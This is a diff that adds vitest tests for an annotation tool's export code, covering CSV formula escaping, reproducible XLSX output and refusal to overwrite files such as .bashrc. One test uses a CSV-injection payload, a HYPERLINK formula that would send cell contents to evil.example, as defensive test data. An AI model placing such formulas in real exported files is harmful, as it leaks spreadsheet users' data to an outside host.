@@ -1,7 +1,7 @@
-import { readFileSync, readdirSync } from 'node:fs'
+import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import fc from 'fast-check'
-import { afterEach, describe, expect, it } from 'vitest'
+import { afterEach, describe, expect, it, vi } from 'vitest'
 import { parseAus } from '@shared/domain/au'
 import { EMPTY_ANNOTATION_FIELDS } from '@shared/domain/annotation'
 import { CodingService } from '../../../src/main/services/annotations/coding'
@@ -12,6 +12,7 @@ import { codesFromEaf, codesToEaf } from '../../../src/main/services/annotations
 import { annotationFields } from '@shared/domain/annotation'
 import type { Project } from '../../../src/main/services/project/project'
 import { projectWithSamples, scratchDir } from '../project/project-fixture'
+import { runCliCaptured } from '../../helpers/cli'
 
 let cleanups: (() => void)[] = []
 afterEach(() => {
@@ -39,7 +40,7 @@ async function codedProject(dir: string) {
   coding.adjudicate(a, ada.id, { accept: project.getAnnotation({ sampleId: a, annotatorId: kim.id, adjudicated: false })!.id })
   const labels = project.transaction(() => project.createAnnotator('CASME II labels', 'dataset'))
   coding.replace({ sampleId: c, annotatorId: labels.id, adjudicated: false }, { ...annotationFields(project.getAnnotation({ sampleId: a, annotatorId: kim.id, adjudicated: false })!), notes: '' }, 'import dataset')
-  return { project, coding }
+  return { project, coding, sampleIds }
 }
 
 /** Every annotation as comparable plain data: (dataset, subject, sample, coder, role, adjudicated) → fields. */
@@ -95,6 +96,90 @@ describe('codes export/import', () => {
     expect([get('onset_frame'), get('onset_ms'), get('apex_ms'), get('offset_ms')]).toEqual(['12', '10', '50', '155'])
     expect(codesFromCsv(readFileSync(out, 'utf8'))).toHaveLength(5)
     project.close()
+  })
+
+  it('neutralises formulas in the CSV and reads them back as written', async () => {
+    const { project, coding, sampleIds } = await codedProject(scratch())
+    const kim = project.listAnnotators().find((a) => a.name === 'Kim')!
+    const b = sampleIds[1]
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    coding.update(b!, kim.id, { notes: formula, emotion: '+surprise', objectiveClass: "'@quoted" })
+    const out = join(scratch(), 'codes.csv')
+    await exportCodes(project, 'csv', out)
+    const text = readFileSync(out, 'utf8')
+    // No cell starts with a formula character: each such text cell carries a leading '.
+    const cells = parseCsv(text).flat()
+    expect(cells).toContain(`'${formula}`)
+    expect(cells).toContain("'+surprise")
+    expect(cells).toContain("''@quoted")
+    expect(cells.filter((c) => /^[=+@\t\r]/.test(c))).toEqual([])
+    const rows = codesFromCsv(text)
+    const back = rows.find((r) => r.coder === 'Kim' && r.sample === project.getSample(b!).name && !r.adjudicated)!
+    expect([back.fields.notes, back.fields.emotion, back.fields.objectiveClass]).toEqual([formula, '+surprise', "'@quoted"])
+    project.close()
+  })
+
+  it('writes byte-identical xlsx on re-export', async () => {
+    const { project } = await codedProject(scratch())
+    const first = join(scratch(), 'first.xlsx')
+    const second = join(scratch(), 'second.xlsx')
+    // ZIP writers stamp entries with the wall clock: export at two different times.
+    vi.useFakeTimers({ toFake: ['Date'] })
+    try {
+      vi.setSystemTime(new Date('2026-03-01T10:00:00Z'))
+      await exportCodes(project, 'xlsx', first)
+      vi.setSystemTime(new Date('2027-07-15T18:30:42Z'))
+      await exportCodes(project, 'xlsx', second)
+    } finally {
+      vi.useRealTimers()
+    }
+    expect(Buffer.compare(readFileSync(first), readFileSync(second))).toBe(0)
+    project.close()
+  })
+
+  it('never replaces an existing file or fills a non-empty folder unless asked, and writes only the format\'s extension', async () => {
+    const { project } = await codedProject(scratch())
+    const dir = scratch()
+    // The reproduction: a csv export aimed at a dotfile that exists.
+    const bashrc = join(dir, '.bashrc')
+    writeFileSync(bashrc, 'alias ls="ls --color"\n')
+    for (const overwrite of [false, true]) {
+      await expect(exportCodes(project, 'csv', bashrc, {}, { overwrite })).rejects.toMatchObject({ code: 'invalid-input', message: expect.stringContaining('writes only .csv files') })
+    }
+    await expect(exportCodes(project, 'xlsx', join(dir, 'codes.csv'))).rejects.toMatchObject({ code: 'invalid-input' })
+    const csv = join(dir, 'codes.csv')
+    writeFileSync(csv, 'mine')
+    await expect(exportCodes(project, 'csv', csv)).rejects.toMatchObject({ code: 'export/target-exists', message: expect.stringContaining(`${csv} already exists`) })
+    expect(readFileSync(csv, 'utf8')).toBe('mine')
+    expect((await exportCodes(project, 'csv', csv, {}, { overwrite: true })).rows).toBe(5)
+    expect(codesFromCsv(readFileSync(csv, 'utf8'))).toHaveLength(5)
+    expect(readFileSync(bashrc, 'utf8')).toBe('alias ls="ls --color"\n')
+
+    const eaf = join(dir, 'eaf')
+    mkdirSync(eaf)
+    writeFileSync(join(eaf, 'notes.txt'), 'keep')
+    await expect(exportCodes(project, 'eaf', eaf)).rejects.toMatchObject({ code: 'export/target-exists', message: expect.stringContaining('is not empty') })
+    expect(readdirSync(eaf)).toEqual(['notes.txt'])
+    await expect(exportCodes(project, 'eaf', csv)).rejects.toMatchObject({ code: 'invalid-input' })
+    expect((await exportCodes(project, 'eaf', eaf, {}, { overwrite: true })).files).toHaveLength(3)
+    expect(readdirSync(eaf)).toHaveLength(4)
+    expect(readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([])
+    project.close()
+  })
+
+  it('me-studio export refuses an existing --out without --force', async () => {
+    const { project } = await codedProject(scratch())
+    const path = project.path
+    project.close()
+    const dir = scratch()
+    const args = ['export', '--project', path, '--what', 'annotations', '--format', 'csv', '--out', 'codes.csv']
+    expect((await runCliCaptured(args, dir)).code).toBe(0)
+    const again = await runCliCaptured(args, dir)
+    expect(again.code).toBe(1)
+    expect(again.stderr).toMatch(/codes\.csv already exists: .*--force.*\[export\/target-exists\]\n$/)
+    const forced = await runCliCaptured([...args, '--force'], dir)
+    expect(forced.code, forced.stderr).toBe(0)
+    expect(forced.stderr).toContain('wrote 5 coding rows')
   })
 
   it('writes ELAN files with one tier per coder and the apex as its own tier', async () => {
